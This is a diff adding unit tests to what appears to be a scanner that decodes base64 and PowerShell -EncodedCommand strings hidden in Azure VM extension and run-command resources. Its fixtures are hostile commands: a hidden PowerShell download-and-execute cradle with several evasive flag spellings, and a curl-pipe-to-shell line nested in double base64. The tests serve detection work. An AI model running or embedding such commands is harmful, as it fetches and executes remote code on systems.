@@ -262,3 +262,39 @@ describe("derivePayloads: workflow and pipeline-style resources", () => {
     ).toBe("url");
   });
 });
+
+describe("derivePayloads: encoded commands are decoded into payloads of their own", () => {
+  const ext = (cmd: string) =>
+    res("Microsoft.Compute/virtualMachines/extensions", "cse", {
+      publisher: "Microsoft.Compute",
+      type: "CustomScriptExtension",
+      settings: { commandToExecute: cmd },
+    });
+  it("PowerShell -EncodedCommand (UTF-16LE), with any of its spellings", () => {
+    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
+    const b64 = Buffer.from(inner, "utf16le").toString("base64");
+    for (const flag of ["-enc", "-EncodedCommand", "/e", "-ec", "\u2013EnCoDeD"]) {
+      const p = payloadsOf(ext(`powershell.exe -NoP -W Hidden ${flag} ${b64}`));
+      const decoded = p.find((x) => x.path.endsWith("(decoded -EncodedCommand)"));
+      expect(decoded?.content, flag).toBe(inner);
+      expect(decoded?.kind).toBe("script");
+    }
+  });
+  it("echo <base64> | base64 -d, and nested encodings", () => {
+    const inner = "curl -fsSL http://198.51.100.23/s2.sh | sh";
+    const once = Buffer.from(inner).toString("base64");
+    const twice = Buffer.from(`echo ${once} | base64 -d | sh`).toString("base64");
+    const p = payloadsOf(
+      res("Microsoft.Compute/virtualMachines/runCommands", "rc", {
+        source: { script: `echo ${twice} | base64 --decode | bash` },
+      }),
+    );
+    expect(p.map((x) => x.content)).toContain(inner);
+  });
+  it("leaves ordinary text and binary-looking base64 alone", () => {
+    const p = payloadsOf(ext("powershell -ExecutionPolicy Bypass -File install.ps1 -Environment production"));
+    expect(p).toHaveLength(1);
+    const bin = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString("base64");
+    expect(payloadsOf(ext(`echo ${bin} | base64 -d > /tmp/blob`))).toHaveLength(1);
+  });
+});
